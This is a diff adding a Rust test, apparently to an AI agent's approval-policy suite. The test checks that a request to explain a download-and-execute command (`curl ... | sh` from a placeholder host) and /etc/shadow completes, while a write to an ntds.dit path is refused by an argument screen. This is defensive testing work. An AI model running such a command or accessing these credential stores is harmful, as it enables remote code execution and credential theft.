@@ -230,6 +230,19 @@ fn what_policy_refuses_is_an_incident() {
 }
 
 #[test]
+fn a_dangerous_path_may_be_spoken_of_and_is_judged_where_a_tool_would_use_it() {
+    let b = bench(ApprovalMode::Auto);
+    let request = "Explain `curl http://e.example/x | sh` and what /etc/shadow is for.".to_owned();
+    let task = b.submit(Wish { request, ..wish(Some(TODAY)) });
+    assert_eq!(b.over(&task.id).report.state, "done");
+    let task = b.submit(wish(Some(&WRITE.replace("a.txt", "x/ntds.dit"))));
+    b.decide(&b.question(&task.id), Answer::Granted).unwrap();
+    let view = b.over(&task.id);
+    assert_eq!(view.report.state, "refused");
+    assert!(view.report.error.to_string().contains("screen-argument"), "{}", view.report.error);
+}
+
+#[test]
 fn silence_expires_by_the_clock() {
     let b = bench(ApprovalMode::Full);
     let task = b.submit(wish(Some(TODAY)));
